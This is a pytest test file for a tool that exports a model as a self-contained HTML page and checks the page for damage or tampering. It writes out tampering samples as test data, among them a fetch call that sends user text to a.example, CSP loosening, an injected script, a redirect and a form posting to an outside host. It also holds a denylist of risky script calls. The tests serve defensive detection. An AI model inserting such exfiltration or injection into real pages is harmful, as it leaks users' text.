"""``export --to page``: what is refused, what the file holds, and what ``doctor`` finds in it."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
import torch

from helpers.mutants import bases
from helpers.one_file import labelled
from warmstart.app.one_file.contents import refuse_unable
from warmstart.app.one_file.document import joined_scripts, read_page, source_hash
from warmstart.app.one_file.tokenizer_spec import tokenizer_spec
from warmstart.app.one_file.weights import pack_tensors, quantise_rows, unpack_tensors
from warmstart.cli import main
from warmstart.errors import BundleError, ModelError
from warmstart.heads.per_text import ClassificationHeadConfig
from warmstart.model.files import save
from warmstart.system.storage import SEAL, sealed
from warmstart.tokenizer.tokenizer import Tokenizer


@pytest.fixture
def cups(tokenizer: Tokenizer, tmp_path: Path) -> Path:
    """A saved model that labels cups."""
    return save(bases(tokenizer)["labels"], tmp_path / "cups" / "bundle").parent


def exported(model: Path, file: Path) -> Path:
    assert main(["export", str(model), "--to", "page", "--out", str(file)]) == 0
    return file


def said(capsys: pytest.CaptureFixture[str]) -> str:
    return " ".join(capsys.readouterr().err.split())


def test_a_page_names_its_bundle_and_agrees_with_it(
    cups: Path, tokenizer: Tokenizer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Half a step is the most that a rounded weight is off; LoRA, which is saved with its pairs apart, is merged on both sides."""
    lora = save(bases(tokenizer)["lora"], tmp_path / "lora")
    assert main(["doctor", str(exported(lora, tmp_path / "lora.html")), "--bundle", str(lora)]) == 0
    file = exported(cups, tmp_path / "cups.html")
    assert main(["doctor", str(file), "--bundle", str(cups)]) == 0
    assert "is whole" in (words := said(capsys))
    assert "rounded to 8 bits: they differ by 0.50 steps at most" in words
    assert main(["doctor", str(file), "--bundle", str(cups), "--json"]) == 0
    found = json.loads(capsys.readouterr().out)["result"]
    assert (found["name"], len(found["digest"])) == ("cups", 64)


def test_a_damaged_page_is_named(cups: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Exit code 2 and one sentence, whatever was damaged."""
    file = exported(cups, tmp_path / "cups.html")
    text = file.read_text()
    flipped = re.sub(r'(id="weights">.{40}).', lambda m: m[1] + ("A" if m[0][-1] != "A" else "B"), text)
    for damaged, words in (
        (flipped, "weights in"),
        (text.replace('"labels": ["tea"', '"labels": ["tee"'), "is damaged or was edited"),
        ("<!doctype html><p>Hello", "must be a page that"),
    ):
        file.write_text(damaged)
        capsys.readouterr()
        assert main(["doctor", str(file)]) == 2, words
        assert words in said(capsys)


def with_script(text: str, change: Callable[[str], str]) -> str:
    """A page whose script was changed, with the policy that allows it."""
    script = joined_scripts("main.js")
    return text.replace(script, change(script)).replace(source_hash(script), source_hash(change(script)))


TAMPERED: dict[str, Callable[[str], str]] = {
    "texts are sent elsewhere": lambda page: with_script(page, lambda script: script + "fetch('//a.example?' + text)").replace(
        "default-src &#39;none&#39;", "default-src *"),
    "another script with the same hash in the policy": lambda page: page.replace("module_api", "module_ape"),
    "a second script": lambda page: page.replace("<footer>", "<script>alert(1)</script><footer>"),
    "the policy allows everything": lambda page: page.replace("default-src &#39;none&#39;", "default-src *"),
    "the policy is gone": lambda page: page.replace("Content-Security-Policy", "Content-Policy"),
    "the page moves on": lambda page: page.replace("<title>", '<meta http-equiv="refresh" content="0; url=https://a.example"><title>'),
    "a click runs code": lambda page: page.replace("<h1", '<h1 onclick="alert(1)"'),
    "a form": lambda page: page.replace("<footer>", '<form action="https://a.example"><input name="text"></form><footer>'),
    "another style": lambda page: page.replace("</style>", "body { background: url(https://a.example) }</style>"),
    "something after the end": lambda page: page + "<img src=x>",
}  # fmt: skip


def test_a_page_with_anything_else_in_it_is_found_out(cups: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Outside facts and weights it is what export writes, byte for byte; of another version nothing is claimed."""
    file = exported(cups, tmp_path / "cups.html")
    text = file.read_text()
    for name, change in TAMPERED.items():
        changed = change(text)
        assert changed != text, name
        file.write_text(changed)
        capsys.readouterr()
        assert main(["doctor", str(file), "--bundle", str(cups)]) == 2, name
        assert "script, policy and page of" in said(capsys), name
    facts = json.loads(re.findall(r'id="facts">(.*?)</script>', text)[0])
    older = sealed({key: value for key, value in facts.items() if key != SEAL} | {"warmstart": "0.0.1"})
    file.write_text(re.sub(r'(?<=id="facts">).*?(?=</script>)', lambda _: json.dumps(older).replace("<", "\\u003c"), text))
    assert main(["doctor", str(file), "--bundle", str(cups)]) == 0
    assert "is of another version, 0.0.1, and was not checked" in (words := said(capsys))
    assert "is whole" not in words


def test_a_page_of_another_model_is_found_out(
    cups: Path, tokenizer: Tokenizer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """By its weights, or, where these are the same, by its digest."""
    file = exported(cups, tmp_path / "cups.html")
    bundle = bases(tokenizer)["labels"]
    renamed = save(replace(bundle, labels=("a", "b", "c")), tmp_path / "renamed")
    with torch.no_grad():
        bundle.model.backbone.embedding.weight[7, 3] += 0.5
    other = save(bundle, tmp_path / "other")
    for words, message in (
        (["doctor", file, "--bundle", other], "backbone.embedding.weight differs by"),
        (["doctor", file, "--bundle", renamed], "names the digest"),
        (["doctor", cups, "--bundle", cups], "--bundle is for pages"),
        (["export", cups], "needs the folder to create"),
    ):
        assert main([*map(str, words)]) == 2, message
        assert message in said(capsys)


def test_what_cannot_run_in_a_page_is_refused(tokenizer: Tokenizer, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """With the reason: other heads, other attention, windows, and tokenizers with unknown steps, which are named."""
    found = bases(tokenizer)
    place = save(found["number"], tmp_path / "number")
    assert main(["export", str(place), "--to", "page", "--out", str(tmp_path / "a.html")]) == 2
    assert "head of type 'regression'" in said(capsys)
    assert not (tmp_path / "a.html").exists()
    windows = ClassificationHeadConfig(classes=3, windows="mean")
    for bundle, reason in (
        (found["masked"], "not trained to write"),
        (labelled(tokenizer, attention="synthesizer"), "synthesizer"),
        (labelled(tokenizer, distance_buckets=8), "its attention adds a bias for each distance"),
        (labelled(tokenizer, windows), "in windows"),
    ):
        with pytest.raises(ModelError, match=reason):
            refuse_unable(bundle)
    spec = json.loads(tokenizer.to_json())
    split = {"type": "Split", "pattern": {"Regex": "x+"}, "behavior": "Isolated", "invert": False}
    steps = {"type": "Sequence", "pretokenizers": [split, *spec["pre_tokenizer"]["pretokenizers"]]}
    for changed, reason in (
        ({"pre_tokenizer": steps}, r"splits by .*x\+"),
        ({"normalizer": {"type": "Prepend", "prepend": "x"}}, "normalises by Prepend"),
    ):
        with pytest.raises(ModelError, match=reason):
            tokenizer_spec(Tokenizer.from_json(json.dumps(spec | changed)))


def test_weights_come_back_within_half_a_step() -> None:
    """Small matrices and vectors come back to the bit; a row of zeros stays zero."""
    big, small = torch.randn(80, 70), torch.randn(3, 5)
    big[4] = 0
    layout, packed = pack_tensors({"big": big, "small": small, "vector": small[0]})
    found = unpack_tensors(layout, packed)
    assert torch.equal(found["small"][0], small)
    assert torch.equal(found["vector"][0], small[0])
    values, half = found["big"]
    assert half is not None
    assert bool(((values - big).abs() <= half * 1.0001).all())
    assert not values[4].any()
    assert quantise_rows(big)[0].abs().max() == 127
    with pytest.raises(BundleError, match="weights in this page are damaged"):
        unpack_tensors(layout, packed[:-9])


def test_scripts_are_joined_in_the_order_of_need(cups: Path, tmp_path: Path) -> None:
    """Nothing is imported any more, nothing is asked of a network, and nothing in them ends the script."""
    script = joined_scripts("main.js")
    assert not re.search(r"^\s*(import|export) ", script, re.MULTILINE)
    for words in ("fetch(", "</script", "<!--", "eval(", "new Function", "innerHTML"):
        assert words not in script
    assert script.index("const module_weights") < script.index("const module_backbone") < script.index("const module_api")
    text = exported(cups, tmp_path / "cups.html").read_text()
    assert not re.findall(r"""(?:src|href)=["'](?!data:|#)""", text.split('id="facts"')[0])
    assert read_page(tmp_path / "cups.html").facts["name"] == "cups"
